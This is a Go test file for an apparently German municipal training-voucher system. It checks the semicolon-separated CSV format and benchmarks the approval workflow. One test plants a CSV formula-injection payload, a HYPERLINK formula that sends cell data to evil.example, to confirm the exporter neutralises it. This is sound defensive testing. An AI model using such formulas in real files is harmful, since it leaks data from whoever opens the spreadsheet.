package contracts_test

import (
	"context"
	"strings"
	"testing"

	"github.com/lotse-oss/lotse/internal/contracts"
	"github.com/lotse-oss/lotse/internal/demo"
	"github.com/lotse-oss/lotse/internal/domain"
	"github.com/lotse-oss/lotse/internal/funding"
	"github.com/lotse-oss/lotse/internal/notify"
	"github.com/lotse-oss/lotse/internal/programmes"
	"github.com/lotse-oss/lotse/internal/store/storetest"
)

func TestVoucherCSVIsForGermanSpreadsheets(t *testing.T) {
	vs := []domain.Voucher{{Code: "08999001-K7QM-4XD2-P9H1", ValueCents: 30000, Municipality: "Futurehausen", AGS: "08999001",
		ProviderName: "Verwaltungsschule; Stuttgart"}}
	b, err := contracts.VoucherCSV(vs, "Basisqualifizierung")
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	if !strings.HasPrefix(s, "\ufeffGutscheincode;") || !strings.Contains(s, ";300,00;") || !strings.Contains(s, `"Verwaltungsschule; Stuttgart"`) ||
		!strings.Contains(s, "\r\n") {
		t.Fatalf("csv %q", s)
	}
}

// Names that a spreadsheet would read as a formula are written as text.
func TestVoucherCSVNeutralisesFormulas(t *testing.T) {
	vs := []domain.Voucher{{Code: "08999001-K7QM-4XD2-P9H1", ValueCents: 30000, AGS: "08999001",
		Municipality: `=HYPERLINK("https://evil.example/?d="&A2;"Gutschein einlösen")`, ProviderName: "@SUM(1+1)"}}
	b, err := contracts.VoucherCSV(vs, "+Basis")
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	for _, want := range []string{`"'=HYPERLINK(""https://evil.example/?d=""&A2;""Gutschein einlösen"")"`, ";'@SUM(1+1);", ";'+Basis;", ";300,00;"} {
		if !strings.Contains(s, want) {
			t.Errorf("csv lacks %s:\n%s", want, s)
		}
	}
	for _, cell := range strings.FieldsFunc(strings.SplitN(s, "\r\n", 2)[1], func(r rune) bool { return r == ';' || r == '\r' || r == '\n' }) {
		if strings.ContainsAny(cell[:1], "=+@") {
			t.Errorf("live formula cell %q", cell)
		}
	}
}

// BenchmarkApproval approves an application of a district for 5 people end
// to end: vouchers, contract and voucher list PDFs, CSV, file store,
// mailbox message, e-mail notices, audit log, in one transaction.
func BenchmarkApproval(b *testing.B) {
	for _, d := range storetest.Dialects {
		b.Run(string(d), func(b *testing.B) {
			db := storetest.Open(b, d)
			ctx := context.Background()
			if _, err := demo.Load(ctx, db, "ein-demo-passwort"); err != nil {
				b.Fatal(err)
			}
			p, err := db.Programme(ctx, programmes.BWID)
			if err != nil {
				b.Fatal(err)
			}
			// Enough places for every iteration.
			for i := range p.Contingent {
				p.Contingent[i].People = 1000
			}
			if err := db.SaveProgramme(ctx, p); err != nil {
				b.Fatal(err)
			}
			org, err := db.OrganisationByAGS(ctx, "08999")
			if err != nil {
				b.Fatal(err)
			}
			signatory := &domain.Person{Email: "landrat@zukunftstal.example", Name: "Lara Landrätin"}
			if err := db.CreatePerson(ctx, signatory, ""); err != nil {
				b.Fatal(err)
			}
			if err := db.SetRoles(ctx, org.ID, signatory.ID, []domain.Role{domain.RoleSignatory}); err != nil {
				b.Fatal(err)
			}
			ms, _ := db.Memberships(ctx, signatory.ID)
			actx := domain.WithActor(ctx, &domain.Actor{Person: signatory, Memberships: ms})
			reviewer, err := db.PersonByEmail(ctx, "pruefung@staedtetag-bw.example")
			if err != nil {
				b.Fatal(err)
			}
			rms, _ := db.Memberships(ctx, reviewer.ID)
			rctx := domain.WithActor(ctx, &domain.Actor{Person: reviewer, Memberships: rms})
			fund := funding.New(db, notify.MustNew("https://lotse.example"))
			prog, track, people, yes := programmes.BWID, domain.TrackBasis, 5, true
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				a, err := fund.CreateApplication(actx, org.ID, domain.ApplicationInput{ProgrammeID: &prog, Track: &track,
					ProviderID: &p.ProviderIDs[0], People: &people, Declarations: &yes})
				if err != nil {
					b.Fatal(err)
				}
				if _, err := fund.SubmitApplication(actx, a.ID); err != nil {
					b.Fatal(err)
				}
				b.StartTimer()
				got, err := fund.ApproveApplication(rctx, a.ID)
				if err != nil {
					b.Fatal(err)
				}
				if len(got.Vouchers) != 5 {
					b.Fatalf("%d vouchers", len(got.Vouchers))
				}
			}
		})
	}
}
